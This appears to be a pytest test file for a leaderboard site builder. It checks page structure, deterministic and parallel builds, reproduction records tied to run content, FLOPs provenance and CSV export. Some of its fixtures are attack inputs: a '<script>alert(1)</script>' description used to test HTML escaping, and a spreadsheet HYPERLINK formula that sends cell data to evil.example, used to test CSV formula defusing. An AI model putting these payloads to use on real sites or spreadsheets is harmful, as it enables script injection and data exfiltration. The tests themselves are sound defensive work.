"""`speedrun build`: read the produced site by its HTML structure."""

import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from click.testing import CliRunner

from leaderboard import build as build_mod
from speedrun.cli import cli

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture()
def tree(tmp_path):
    """A copy of the bundled runs plus one invalid run and one run with HTML in its description."""
    runs = tmp_path / "runs"
    shutil.copytree(ROOT / "runs" / "digits-classification", runs / "digits-classification",
                    ignore=shutil.ignore_patterns("ast-*", "__pycache__", "reproductions"))
    track = runs / "digits-classification"
    good = track / "mlp-baseline"

    bad = track / "broken-run"
    shutil.copytree(good, bad)
    data = json.loads((bad / "speedrun_analysis.json").read_text())
    data["name"] = "broken-run"
    data["compute"]["samples_seen"] = 99
    (bad / "speedrun_analysis.json").write_text(json.dumps(data))

    sneaky = track / "sneaky"
    shutil.copytree(good, sneaky)
    data = json.loads((sneaky / "speedrun_analysis.json").read_text())
    data["name"] = "sneaky"
    data["description"] = "<script>alert(1)</script> wider MLP"
    for r in data["results"]:  # slightly worse: ranks second
        for p in r["curve"]:
            p["val_top1"] = round(p["val_top1"] - 0.01, 6)
        r["final"]["val_top1"] = r["curve"][-1]["val_top1"]
    (sneaky / "speedrun_analysis.json").write_text(json.dumps(data))
    for log in (sneaky / "logs").glob("*.log"):  # its logs say so too, or the claim would not be valid
        log.write_text(re.sub(r"(val_top1 )(\d\.\d+)", lambda m: f"{m[1]}{float(m[2]) - 0.01:.4f}", log.read_text()))
    return runs


def _build(runs, out, monkeypatch, epoch="1700000000", flops=True):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", epoch)
    result = CliRunner().invoke(cli, ["build", "--runs", str(runs), "--out", str(out)]
                                + ([] if flops else ["--no-flops", "--no-charts"]))
    assert result.exit_code == 0, result.output
    return result


def _soup(path: Path) -> BeautifulSoup:
    return BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser")


def test_index_links_each_track(tree, tmp_path, monkeypatch):
    out = tmp_path / "site"
    _build(tree, out, monkeypatch)
    index = _soup(out / "index.html")
    row = index.select_one('tr[data-track="digits-classification"]')
    assert row is not None
    link = row.select_one("a")
    assert link["href"] == "tracks/digits-classification.html"
    assert (out / link["href"]).is_file()
    assert row.select_one("td.counts .ranked").get_text() == "2"
    assert row.select_one("td.counts .invalid-count").get_text() == "1"


def test_track_page_ranks_valid_runs_and_lists_invalid_ones(tree, tmp_path, monkeypatch):
    out = tmp_path / "site"
    _build(tree, out, monkeypatch)
    page = _soup(out / "tracks" / "digits-classification.html")
    rows = page.select("table.leaderboard tbody tr")
    assert [r["data-run"] for r in rows] == ["mlp-baseline", "sneaky"]
    assert [r.select("td")[0].get_text(strip=True) for r in rows] == ["1", "2"]
    run_link = rows[0].select_one("a")["href"]
    assert (out / "tracks" / run_link).resolve().is_file()

    invalid = page.select_one("section#invalid")
    assert invalid is not None
    article = invalid.select_one('article[data-run="broken-run"]')
    assert "samples-inconsistent" in article.get_text()
    assert page.select_one("section#rules .version").get_text(strip=True) == "v1.0"


def test_html_is_escaped(tree, tmp_path, monkeypatch):
    out = tmp_path / "site"
    _build(tree, out, monkeypatch)
    html = (out / "runs" / "digits-classification" / "sneaky.html").read_text()
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_leaderboard_json_matches_pages(tree, tmp_path, monkeypatch):
    out = tmp_path / "site"
    _build(tree, out, monkeypatch)
    data = json.loads((out / "leaderboard.json").read_text())
    track = next(t for t in data["tracks"] if t["id"] == "digits-classification")
    assert [e["name"] for e in track["entries"]] == ["mlp-baseline", "sneaky"]
    assert track["invalid"][0]["name"] == "broken-run"
    assert track["entries"][0]["figures"][0]["n"] == 3
    assert data["competitions"][0]["tracks"] == ["digits-classification"]


def test_build_is_deterministic(tree, tmp_path, monkeypatch):
    a, b = tmp_path / "a", tmp_path / "b"
    _build(tree, a, monkeypatch)
    _build(tree, b, monkeypatch)
    files_a = sorted(p.relative_to(a) for p in a.rglob("*") if p.is_file())
    files_b = sorted(p.relative_to(b) for p in b.rglob("*") if p.is_file())
    assert files_a == files_b
    for rel in files_a:
        assert (a / rel).read_bytes() == (b / rel).read_bytes(), rel


@pytest.fixture()
def two_tracks(tree):
    """The tree plus a second track, so a build has work for two processes."""
    shutil.copytree(ROOT / "runs" / "digits-reconstruction", tree / "digits-reconstruction",
                    ignore=shutil.ignore_patterns("__pycache__"))
    return tree


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_failed_build_leaves_previous_site(two_tracks, tmp_path, monkeypatch, jobs):
    out = tmp_path / "site"
    _build(two_tracks, out, monkeypatch)
    before = (out / "index.html").read_bytes()

    real_write = build_mod._Writer.write
    calls = {"n": 0}

    def failing_write(self, *args, **kwargs):  # a disk that fills up halfway through the build
        calls["n"] += 1
        if calls["n"] > 2:
            raise OSError(28, "No space left on device")
        return real_write(self, *args, **kwargs)

    # Forked workers inherit the failing writer, and their error has to cross back. (Forking is safe here even if
    # an earlier test started vl-convert in this process: without charts no worker touches it.)
    monkeypatch.setattr(build_mod._Writer, "write", failing_write)
    monkeypatch.setattr(build_mod, "_start_method", lambda: "fork")
    result = CliRunner().invoke(cli, ["build", "--runs", str(two_tracks), "--out", str(out), "--jobs", jobs,
                                      "--no-charts"])
    monkeypatch.setattr(build_mod._Writer, "write", real_write)
    assert result.exit_code == 2
    assert "No space left" in result.output and "Traceback" not in result.output
    assert (out / "index.html").read_bytes() == before
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".site.")]


def _tree_bytes(root: Path) -> dict[str, bytes]:
    return {p.relative_to(root).as_posix(): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def test_parallel_build_equals_one_process_build(two_tracks, tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    one = build_mod.build_site(two_tracks, tmp_path / "one", jobs=1)
    two = build_mod.build_site(two_tracks, tmp_path / "two", jobs=2)
    assert one == two and one.tracks == 2
    a, b = _tree_bytes(tmp_path / "one"), _tree_bytes(tmp_path / "two")
    assert sorted(a) == sorted(b)
    assert [rel for rel in a if a[rel] != b[rel]] == []


@pytest.mark.parametrize("started", [False, True], ids=["fresh-process-forks", "after-vl-convert-fork-server"])
def test_parallel_build_in_a_fresh_process(two_tracks, tmp_path, started):
    """In a fresh process the workers are forked; once vl-convert's runtime (and its threads) runs in the process,
    a fork server starts them instead, since a forked child would hang on the runtime. Neither may hang."""
    script = (
        "import sys\nfrom pathlib import Path\nfrom leaderboard import build, charts\n"
        + ("charts.to_svg({'mark': 'point', 'data': {'values': [{'a': 1}]}})\n" if started else "")
        + "print(build._start_method())\n"
        + "s = build.build_site(Path(sys.argv[1]), Path(sys.argv[2]), jobs=2)\nprint(s.tracks, s.valid_runs)\n"
        # again from another directory, with relative paths: a fork server's workers start where it started
        + "import os\nos.chdir(Path(sys.argv[1]).parent)\n"
        + "build.build_site(Path('runs'), Path('again'), jobs=2)\n"
    )
    proc = subprocess.run([sys.executable, "-c", script, str(two_tracks), str(tmp_path / "site")],
                          capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    method, counts = proc.stdout.split("\n")[:2]
    assert method == ("forkserver" if started else "fork")
    assert counts == "2 3"
    assert len(list((tmp_path / "site" / "tracks").glob("*/*.svg"))) >= 4  # charts drawn in the workers
    again = json.loads((tmp_path / "again" / "tracks" / "digits-classification.json").read_text())
    assert again["invalid"][0]["errors"][0].startswith("runs/digits-classification/broken-run/speedrun_analysis.json::")


def test_leaderboard_json_is_what_json_dumps_writes(two_tracks, tmp_path, monkeypatch):
    out = tmp_path / "site"
    _build(two_tracks, out, monkeypatch)
    text = (out / "leaderboard.json").read_text(encoding="utf-8")
    data = json.loads(text)
    assert text == json.dumps(data, sort_keys=True, ensure_ascii=False, separators=(",", ":")) + "\n"
    assert [t["id"] for t in data["tracks"]] == ["digits-classification", "digits-reconstruction"]
    for t in data["tracks"]:
        assert json.loads((out / "tracks" / f"{t['id']}.json").read_text(encoding="utf-8")) == t


def test_run_page_shows_the_run_files(tree, tmp_path, monkeypatch):
    out = tmp_path / "site"
    _build(tree, out, monkeypatch)
    page = _soup(out / "runs" / "digits-classification" / "mlp-baseline.html")
    links = page.select("#files ul a")
    paths = [a.get_text() for a in links]
    assert paths[:3] == ["speedrun_analysis.json", "run.py", "README.md"]
    for a in links:  # every link lands on the file's own heading, followed by its text
        heading = page.select_one(a["href"])
        assert heading is not None and heading.get_text() == a.get_text()
        shown = heading.find_next_sibling("pre")
        source = (tree / "digits-classification" / "mlp-baseline" / a.get_text()).read_text(encoding="utf-8")
        assert shown.get_text() == source
    assert not (out / "runs" / "digits-classification" / "mlp-baseline").exists()  # nothing copied beside it


def test_run_page_links_files_in_the_repository(tree, tmp_path, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    out = tmp_path / "site"
    url = "https://github.com/org/repo/blob/0123abc/runs"
    result = CliRunner().invoke(cli, ["build", "--runs", str(tree), "--out", str(out), "--source-url", url + "/"])
    assert result.exit_code == 0, result.output
    page = _soup(out / "runs" / "digits-classification" / "mlp-baseline.html")
    remote = [a["href"] for a in page.select("#files ul a") if a.get_text() == "in the repository"]
    assert f"{url}/digits-classification/mlp-baseline/run.py" in remote


def test_reproduction_record_is_on_the_run_page(tmp_path, monkeypatch):
    """Both bundled records are shown: the H100 one, written before records were bound to content, does not count;
    the H200 one, recorded by `speedrun reproduce --record` on a GPU and bound to the folder, makes it reproduced."""
    runs = tmp_path / "runs"
    shutil.copytree(ROOT / "runs" / "digits-classification", runs / "digits-classification",
                    ignore=shutil.ignore_patterns("ast-*", "__pycache__"))
    _build(runs, tmp_path / "site", monkeypatch, flops=False)
    page = _soup(tmp_path / "site" / "runs" / "digits-classification" / "mlp-baseline.html")
    rows = {tr.select_one("a").get_text(): tr for tr in page.select("#reproductions tbody tr")}
    old, new = rows["2026-11-22-nvidia-h100-80gb-hbm3.json"], rows["2026-12-01-nvidia-h200.json"]
    record = page.select_one(old.select_one("a")["href"]).find_next_sibling("pre")
    assert json.loads(record.get_text())["verdict"] == "reproduced"
    assert old["class"] == ["not-counted"]
    assert old.select_one("td.binding").get_text(strip=True) == "no: not bound to any content"
    assert new["class"] == ["counts"] and new.select_one("td.binding").get_text(strip=True) == "yes"
    assert page.select_one("dl.meta .status").get_text(strip=True) == "reproduced"


# --------------------------------------------------------------------- reproduction records bound to their run


def _bound_record(run: Path, **changes) -> dict:
    """A record as `speedrun reproduce --record` writes it for `run` as it is now (the real hash, never typed in)."""
    from validator.fingerprint import content_sha256

    record = json.loads(next((ROOT / "runs" / "digits-classification" / "mlp-baseline" / "reproductions")
                             .glob("*.json")).read_text())
    record.update(run=f"{run.parent.name}/{run.name}", content_sha256=content_sha256(run), **changes)
    return record


def _write_record(run: Path, record: dict, name: str = "2026-12-01-nvidia-h100.json") -> None:
    (run / "reproductions").mkdir(exist_ok=True)
    (run / "reproductions" / name).write_text(json.dumps(record, indent=2))


def _statuses(out: Path) -> dict[str, str]:
    board = json.loads((out / "tracks" / "digits-classification.json").read_text())
    return {e["name"]: e["status"] for e in board["entries"]}


def _binding(out: Path, run: str) -> list[str]:
    page = _soup(out / "runs" / "digits-classification" / f"{run}.html")
    return [td.get_text(strip=True) for td in page.select("#reproductions td.binding")]


def test_only_a_record_bound_to_the_run_and_its_content_counts(tree, tmp_path, monkeypatch):
    """Attack B: a reproduction record copied into another run folder, or kept after the run changed, must never
    make the site say "reproduced"."""
    track = tree / "digits-classification"
    good = track / "mlp-baseline"
    record = _bound_record(good)
    _write_record(good, record)
    _write_record(track / "sneaky", record)                                          # copied as is
    copycat = track / "copycat"
    shutil.copytree(track / "sneaky", copycat, ignore=shutil.ignore_patterns("reproductions"))
    data = json.loads((copycat / "speedrun_analysis.json").read_text())
    data["name"] = "copycat"
    (copycat / "speedrun_analysis.json").write_text(json.dumps(data))
    _write_record(copycat, {**record, "run": "digits-classification/copycat"})     # renamed, hash kept
    out = tmp_path / "site"
    _build(tree, out, monkeypatch, flops=False)
    assert _statuses(out) == {"mlp-baseline": "reproduced", "sneaky": "validated", "copycat": "validated"}
    assert _binding(out, "mlp-baseline") == ["yes"]
    assert _binding(out, "sneaky") == ["no: bound to another run"]
    assert _binding(out, "copycat") == ["no: the run changed since it was reproduced"]
    page = _soup(out / "runs" / "digits-classification" / "sneaky.html")
    assert page.select_one("dl.meta .status").get_text(strip=True) == "validated"

    (good / "README.md").write_text((good / "README.md").read_text() + "\nedited after the reproduction\n")
    _build(tree, out, monkeypatch, flops=False)
    assert _statuses(out)["mlp-baseline"] == "validated"
    assert _binding(out, "mlp-baseline") == ["no: the run changed since it was reproduced"]


def test_a_record_without_binding_or_with_another_verdict_does_not_count(tree, tmp_path, monkeypatch):
    good = tree / "digits-classification" / "mlp-baseline"
    _write_record(good, {**_bound_record(good), "content_sha256": None}, "a.json")
    _write_record(good, _bound_record(good, verdict="disagrees"), "b.json")
    out = tmp_path / "site"
    _build(tree, out, monkeypatch, flops=False)
    assert _statuses(out)["mlp-baseline"] == "validated"
    assert _binding(out, "mlp-baseline") == ["no: not bound to any content", "no: its verdict is disagrees"]


# ------------------------------------------------------------------------------- who counted a run's FLOPs


def _fake_account(run_dir, run, track, problems, limits=None, fvcore=True, cache_dir=None, **_more):
    """What compute accounting returns, without the sandbox: these tests are about who vouches for the count
    (accounting's rule: a count of `model.config` is trusted code's, "source": "config")."""
    total = float(run.compute.flops.claimed) if run.compute.flops else 1e12
    return {"per_sample_forward_flops": 1.0, "per_sample_training_flops": 3.0, "total_training_flops": total,
            "claimed_flops": total, "claim_ratio": 1.0, "verdict": "pass", "by_module": {"fc": 1.0},
            "device": "meta", "notes": [], "evaluation_flops": 0.0, "samples_seen": run.compute.samples_seen,
            "forward_only_samples": 0, "counters": {}, "parameters": run.model.parameters,
            "source": "config" if run.model.entrypoint is None and run.model.config is not None else "entrypoint"}


def test_flops_say_who_counted_them(tree, tmp_path, monkeypatch):
    """A count from a submitted entrypoint is unverified until a bound reproduction confirms the run; a count
    trusted code made from a Marin run's model.config says so, and the same run with its own model.py does not."""
    import validator.checker

    monkeypatch.setattr(validator.checker, "account", _fake_account)
    good = tree / "digits-classification" / "mlp-baseline"
    _write_record(good, _bound_record(good))
    marin = tree / "marin-tiny"
    marin.mkdir()
    shutil.copy(ROOT / "runs" / "marin-tiny" / "track.yaml", marin / "track.yaml")
    shutil.copytree(ROOT / "runs" / "marin-tiny" / "llama_75m", marin / "llama_75m")
    tampered = marin / "llama_75m_edited"
    shutil.copytree(marin / "llama_75m", tampered)
    data = json.loads((tampered / "speedrun_analysis.json").read_text())
    data["name"] = "llama_75m_edited"
    del data["model"]["config"]
    data["model"]["entrypoint"] = "model.py:build_for_flops"
    (tampered / "speedrun_analysis.json").write_text(json.dumps(data))
    (tampered / "model.py").write_text("# my own model.py\n")

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1700000000")
    out = tmp_path / "site"
    build_mod.build_site(tree, out, flops=True, jobs=1, charts=False)

    def marker(track: str, run: str) -> tuple[list[str], str]:
        row = _soup(out / "tracks" / f"{track}.html").select_one(f'table.leaderboard tr[data-run="{run}"]')
        small = row.select_one(".flops-count")
        return small["class"], small.get_text(strip=True)

    assert marker("digits-classification", "mlp-baseline") == (["flops-count", "confirmed"], "confirmed")
    assert marker("digits-classification", "sneaky") == (["flops-count", "unverified"], "unverified")
    assert marker("marin-tiny", "llama_75m") == (["flops-count", "config"], "from config")
    assert marker("marin-tiny", "llama_75m_edited") == (["flops-count", "unverified"], "unverified")
    track_page = _soup(out / "tracks" / "digits-classification.html")
    assert "until a maintainers' reproduction confirms" in track_page.select_one(".flops-key").get_text()
    assert "until a maintainers' reproduction" in track_page.select_one(".flops-count.unverified")["title"]

    def counted_by(track: str, run: str) -> str:
        dd = _soup(out / "runs" / track / f"{run}.html").select_one("#compute dd.flops-count")
        return dd["class"][1] + ": " + dd.get_text(" ", strip=True)

    assert counted_by("digits-classification", "sneaky").startswith("unverified: the submitted entrypoint, unverified")
    assert counted_by("digits-classification", "mlp-baseline").startswith("confirmed: the submitted entrypoint, confirmed")
    assert counted_by("marin-tiny", "llama_75m").startswith("config: trusted code, from the model config")


def test_file_views_cut_long_files_and_skip_binary_ones(tmp_path):
    from leaderboard.render import INLINE_FILE_BYTES, INLINE_PAGE_BYTES, file_views

    (tmp_path / "short.txt").write_text("hello\n")
    long_text = "".join(f"line {i}\n" for i in range(40_000))
    (tmp_path / "long.log").write_text(long_text)
    (tmp_path / "weights.bin").write_bytes(b"\x00\x01" * 100)
    files = [{"label": "x", "path": n, "bytes": (tmp_path / n).stat().st_size, "anchor": n}
             for n in ("short.txt", "long.log", "weights.bin")]
    short, long, binary = file_views(tmp_path, files)
    assert short["text"] == "hello\n"
    assert long["text"].startswith("line 0\n") and long["text"].endswith("line 39999\n")
    assert "bytes not shown" in long["text"] and len(long["text"]) < INLINE_FILE_BYTES + 100
    assert binary["text"] is None and binary["note"] == "binary file, 200 bytes"

    many = [{"label": "log", "path": "long.log", "bytes": len(long_text), "anchor": f"a{i}"} for i in range(20)]
    views = file_views(tmp_path, many)
    shown = sum(len(v["text"]) for v in views if v["text"])
    assert shown <= INLINE_PAGE_BYTES + 20 * 100
    assert views[-1]["text"] is None and "not shown" in views[-1]["note"]


def test_invalid_track_still_gets_its_page(two_tracks, tmp_path, monkeypatch):
    (two_tracks / "digits-reconstruction" / "track.yaml").write_text("id: digits-reconstruction\n")
    out = tmp_path / "site"
    _build(two_tracks, out, monkeypatch)
    page = _soup(out / "tracks" / "digits-reconstruction.html")
    assert "missing-field" in page.select_one("section.invalid").get_text()
    assert _soup(out / "index.html").select_one("#invalid-tracks h3").get_text() == "digits-reconstruction"


def test_bundled_runs_build(tmp_path, monkeypatch):
    monkeypatch.chdir(ROOT)
    out = tmp_path / "site"
    summary = build_mod.build_site(Path("runs"), out)
    assert summary.invalid_runs == 0 and summary.valid_runs >= 1
    assert (out / "index.html").is_file()


# --------------------------------------------------------------------- issue 11: exports and the built folder


def test_the_csv_export_defuses_spreadsheet_formulas(tmp_path, monkeypatch):
    """A team named `=HYPERLINK(...)` was written verbatim: a spreadsheet opening the CSV would run it."""
    import csv

    runs = tmp_path / "runs"
    shutil.copytree(ROOT / "runs" / "digits-classification", runs / "digits-classification",
                    ignore=shutil.ignore_patterns("ast-*", "__pycache__", "reproductions"))
    analysis = runs / "digits-classification" / "mlp-baseline" / "speedrun_analysis.json"
    doc = json.loads(analysis.read_text())
    doc["team"] = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    analysis.write_text(json.dumps(doc, indent=2))
    _build(runs, tmp_path / "site", monkeypatch, flops=False)
    rows = list(csv.DictReader((tmp_path / "site" / "tracks" / "digits-classification.csv").open()))
    teams = [r["team"] for r in rows]
    assert "'" + doc["team"] in teams, teams
    assert not any(str(v).startswith(("=", "+", "-", "@")) for r in rows for k, v in r.items() if k in ("name", "team"))


def test_the_built_site_is_readable_by_a_web_server_running_as_another_user(tmp_path, monkeypatch):
    """The build folder came from mkdtemp (mode 0700), so a web server running as another user could not read it."""
    import stat

    runs = tmp_path / "runs"
    shutil.copytree(ROOT / "runs" / "digits-classification", runs / "digits-classification",
                    ignore=shutil.ignore_patterns("ast-*", "__pycache__"))
    _build(runs, tmp_path / "site", monkeypatch, flops=False)
    mode = stat.S_IMODE((tmp_path / "site").stat().st_mode)
    assert mode & 0o055 == 0o055, oct(mode)  # group and others may list and enter it
    index = stat.S_IMODE((tmp_path / "site" / "index.html").stat().st_mode)
    assert index & 0o044 == 0o044, oct(index)
